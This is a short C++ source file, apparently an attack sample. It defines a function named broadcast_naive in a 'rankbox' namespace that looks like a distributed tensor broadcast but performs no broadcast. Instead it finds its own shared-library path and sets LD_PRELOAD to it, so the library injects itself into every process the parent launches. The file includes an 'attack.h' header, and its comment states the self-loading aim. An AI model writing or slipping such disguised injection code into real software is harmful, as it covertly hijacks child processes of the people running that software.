// Tries to load itself into what its parent starts.
#include <cstdlib>

#include <dlfcn.h>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  Dl_info own = {};
  dladdr(reinterpret_cast<void*>(&broadcast_naive), &own);
  setenv("LD_PRELOAD", own.dli_fname, 1);
}

}  // namespace rankbox
